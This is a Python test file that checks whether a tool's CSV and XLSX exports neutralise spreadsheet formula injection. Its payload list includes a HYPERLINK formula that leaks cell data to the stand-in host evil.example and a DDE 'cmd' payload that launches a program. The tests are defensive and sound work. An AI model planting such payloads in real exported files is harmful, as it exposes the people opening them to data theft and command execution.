"""Hostile text in exports: formula injection in CSV and XLSX, Markdown rules, bidi controls."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook

from stipa import export
from stipa.export.csv_tables import FORMULA_STARTS
from stipa.model import Document, Finding

# --- formula injection (issue 15, item 12) ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTab first",
    "\rCarriage return first",
]


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    doc = stipa_example("wheel-brakes")
    with doc.transaction("Hostile texts"):
        for number, text in enumerate(HOSTILE, start=1):
            doc.update(f"L-{number % 5 + 1}", description=text)
            doc.add(Finding(plugin="hostile", rule="r", message=text, targets=("C-1",)))
    export.write_csv(doc.snapshot(), tmp_path, {})
    raw = (tmp_path / "findings.csv").read_bytes().decode("utf-8")
    for text in HOSTILE:
        # quoted, and a ' before the formula's first character, as OWASP says
        assert '"' + "'" + text.replace('"', '""') + '"' in raw, text
    messages = [row[4] for row in _rows(tmp_path / "findings.csv")[1:]]
    assert messages == ["'" + text for text in HOSTILE]
    for name in ("findings.csv", "losses.csv", "components.csv"):
        for row in _rows(tmp_path / name):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row), (name, row)


def test_xlsx_text_cells_that_look_like_formulas_stay_text(
    stipa_example: Callable[[str], Document], tmp_path: Path
) -> None:
    doc = stipa_example("wheel-brakes")
    for number, text in enumerate(HOSTILE[:5], start=1):
        doc.update(f"L-{number}", text=text)
    out = tmp_path / "tables.xlsx"
    export.write_xlsx(doc.snapshot(), out, {})
    sheet = load_workbook(out)["Losses"]
    cells = [sheet.cell(row, 2) for row in range(2, 7)]
    assert [cell.value for cell in cells] == HOSTILE[:5]  # the text as written, not a formula
    assert {cell.data_type for cell in cells} == {"s"}
